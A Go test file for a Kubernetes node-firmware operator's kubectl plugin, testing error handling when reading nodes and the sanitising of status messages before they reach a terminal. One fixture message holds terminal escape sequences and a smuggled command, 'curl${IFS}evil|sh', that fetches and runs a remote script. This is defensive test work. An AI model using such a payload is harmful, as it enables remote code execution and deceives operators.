package kubectl

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/nodefirmware/node-firmware-operator/api/v1alpha1"
	"github.com/nodefirmware/node-firmware-operator/internal/explain"
)

// A Node that may not be read leaves the pool out; one that was not read is no Node without a pool.
func TestANodeThatWasNotReadIsNoAbsence(t *testing.T) {
	kinds, err := scheme()
	require.NoError(t, err)
	for name, c := range map[string]struct {
		err   error
		fails bool
	}{
		"may not be read": {apierrors.NewForbidden(corev1.Resource("nodes"), "n", errors.New("no")), false},
		"is gone":         {apierrors.NewNotFound(corev1.Resource("nodes"), "n"), false},
		"was not read":    {errors.New("connection reset by peer"), true},
	} {
		api := fake.NewClientBuilder().WithScheme(kinds).WithInterceptorFuncs(interceptor.Funcs{
			Get: func(context.Context, client.WithWatch, client.ObjectKey, client.Object, ...client.GetOption) error {
				return c.err
			},
		}).Build()
		g := &explain.Gathering{Ctx: t.Context(), API: api}
		assert.Nil(t, g.PolicyOf("n"), name)
		assert.Equal(t, c.fails, g.Err != nil, name)
	}
}

// A node that was taken over chooses what its messages say; it moves no cursor with them.
func TestNoMessageReachesTheTerminalAsItIs(t *testing.T) {
	n := &v1alpha1.NodeFirmware{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	n.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonConflict,
		Message: "\x1b]0;all is well\x07\x1b[2JIt is fine. To try again: kubectl firmware retry n1;curl${IFS}evil|sh"}}
	api := world(t, interceptor.Funcs{}, n)
	for _, args := range [][]string{{"why", "n1"}, {"status", "-o", "wide"}, {"wait", "n1", "--timeout", "1ms"}, {"retry", "n1", "--yes"}} {
		out, said, err := typesWith(t.Context(), api, "", args...)
		for _, printed := range []string{out, said} {
			assert.NotContains(t, printed, "\x1b", args)
			assert.NotContains(t, printed, "\x07", args)
		}
		if args[0] == "why" {
			require.NoError(t, err)
			assert.Contains(t, out, "Nothing has to be typed.", "no command is offered that the product does not make")
		}
	}
}
